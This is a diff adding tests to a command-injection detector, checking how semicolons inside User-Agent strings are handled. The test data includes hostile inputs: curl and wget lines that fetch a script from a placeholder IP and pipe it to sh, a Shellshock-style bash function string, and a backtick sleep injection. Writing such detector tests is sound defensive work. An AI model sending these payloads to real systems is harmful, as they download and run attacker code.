@@ -210,3 +210,12 @@ describe('cmdi: documents', () => {
     assert.ok(cmdi(level1.detect({ method: 'POST', path: '/c', body: { host: '192.0.2.1 `sleep 5`' } })).length > 0);
   });
 });
+
+describe('cmdi: user agents', () => {
+  it("reads ';' inside a user agent's comment as a product-token separator, not a shell one", () => {
+    assertClean(['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
+      'Mozilla/5.0 (compatible; curl/8.5; +https://example.com/bot)', 'Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0'], [inUserAgent]);
+    assertFound(['Mozilla/5.0; curl http://203.0.113.7/a.sh | sh', 'Mozilla/5.0 (compatible; wget http://203.0.113.7/x | sh)',
+      '() { :; }; /bin/bash -c "id"'], [inUserAgent]);
+  });
+});
